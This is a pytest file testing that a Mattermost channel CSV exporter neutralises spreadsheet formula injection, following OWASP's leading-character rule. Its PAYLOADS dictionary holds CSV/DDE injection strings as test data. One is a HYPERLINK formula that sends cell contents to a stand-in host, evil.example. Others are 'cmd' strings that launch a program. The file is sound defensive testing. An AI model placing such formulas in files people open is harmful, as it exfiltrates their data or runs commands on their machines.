"""Spreadsheet-safe channel exports: a cell a spreadsheet would run as a formula is written as text.

OWASP's rule for CSV injection: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote. It applies to every text cell (messages and usernames alike);
``raw=True`` (``/incident export --raw``) writes everything exactly as posted.
"""

from __future__ import annotations

import tempfile

import pytest

from gateway.export import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    UsernameCache,
    channel_pages,
    spreadsheet_safe,
    write_channel_csv,
)
from tests.gateway.test_export_csv import ALICE, BOB, FakeMattermost, export, make_post, read_rows

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_the_leading_characters_are_owasps():
    assert set(FORMULA_STARTS) == set(PAYLOADS)


@pytest.mark.parametrize("first", list(PAYLOADS), ids=repr)
async def test_a_message_that_would_be_a_formula_is_exported_as_text(first):
    message = PAYLOADS[first]
    data, _ = await export(FakeMattermost([make_post(0, message), make_post(1, "fine = ok")], {ALICE: "alice"}))
    rows = read_rows(data)
    assert rows[1][CSV_COLUMNS.index("message")] == "'" + message
    assert rows[2][CSV_COLUMNS.index("message")] == "fine = ok"       # only a leading character counts


@pytest.mark.parametrize("first", list(PAYLOADS), ids=repr)
async def test_a_username_that_would_be_a_formula_is_exported_as_text(first):
    # Mattermost usernames cannot start with these, but a server (or a directory sync) is not trusted here.
    name = first + "cmd"
    data, _ = await export(FakeMattermost([make_post(0, "hello", user=BOB)], {BOB: name}))
    assert read_rows(data)[1][CSV_COLUMNS.index("user")] == "'" + name


async def test_raw_exports_every_cell_exactly_as_posted():
    posts = [make_post(n, message) for n, message in enumerate(PAYLOADS.values())]
    with_names = FakeMattermost(posts, {ALICE: "=alice"})
    with tempfile.TemporaryFile() as out:
        await write_channel_csv(channel_pages(with_names, "channel"), out, UsernameCache(with_names), raw=True)
        out.seek(0)
        rows = read_rows(out.read())
    assert [row[CSV_COLUMNS.index("message")] for row in rows[1:]] == list(PAYLOADS.values())
    assert {row[CSV_COLUMNS.index("user")] for row in rows[1:]} == {"=alice"}


async def test_ids_times_and_types_are_untouched():
    data, _ = await export(FakeMattermost([make_post(0, "=1", type_="system_add_to_channel")], {ALICE: "alice"}))
    row = read_rows(data)[1]
    assert row[0].startswith("2023-") and row[1] == "alice" and row[2] == ALICE
    assert row[3] == "system_add_to_channel" and row[5] == "p" + "0" * 25


@pytest.mark.parametrize("cell", ["", "x=1", " =1", "'=1", "1-2", "ünï", "a@b"])
def test_other_cells_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell
